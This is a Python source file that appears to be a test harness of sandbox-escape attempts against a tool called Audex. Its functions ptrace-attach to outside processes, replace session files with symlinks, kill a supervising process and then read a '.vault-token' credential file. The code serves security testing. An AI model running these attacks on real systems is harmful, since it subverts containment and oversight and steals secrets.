"""Attempts at the processes that Audex itself has beside the command."""

import ctypes
import glob
import os
import signal

import libc
from attack import NotHere, RUNTIME, attempt, every, home, others, outside, read

READS_AGAIN = 20000  # as in `files`
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def strangers():
    """All processes that are seen, but those of the attempts."""
    def is_own(pid):
        try:
            return b"attack.py" in read(f"/proc/{pid}/cmdline")
        except OSError:
            return True
    return [pid for pid in others() if not is_own(pid)]


@attempt("trace-supervisor")
def trace_supervisor():
    """Takes over a process that has more rights."""
    call = libc.C.ptrace
    call.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]

    def attach(pid):
        libc.checked(call(PTRACE_ATTACH, pid, None, None), "ptrace")
        os.waitpid(pid, 0x40000000)  # __WALL
        call(PTRACE_DETACH, pid, None, None)
        return b"opened"
    return every(strangers(), attach)


def names_in(directory):
    try:
        return set(os.listdir(directory))
    except OSError:
        return set()


@attempt("session-record")
def session_record():
    """Puts links to another file in the place of what Audex keeps in the session's directory."""
    named = [path for value in os.environ.values() if value.startswith(f"{RUNTIME}/audex/") for path in (value, os.path.dirname(value))]
    directories = {path for path in glob.glob(f"{RUNTIME}/audex/*") + named if os.path.isdir(path)}
    if not directories:
        raise NotHere("there is no session")
    for directory in directories:
        for name in names_in(directory) | {"placeholders"}:
            path = os.path.join(directory, name)
            if not os.path.isdir(path):
                try:
                    if os.path.lexists(path):
                        os.unlink(path)
                    os.symlink(home("precious.txt"), path)
                except OSError:
                    pass


@attempt("kill-supervisor")
def kill_supervisor():
    """Ends what watches the hidden files, then has one replaced."""
    if b"world.py" not in read("/proc/1/cmdline"):  # in a PID namespace of its own, only Audex's processes are seen
        for pid in strangers():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    outside("replace-unwatched")
    for _ in range(READS_AGAIN):
        got = read(home(".vault-token"))
        os.sched_yield()
    return got
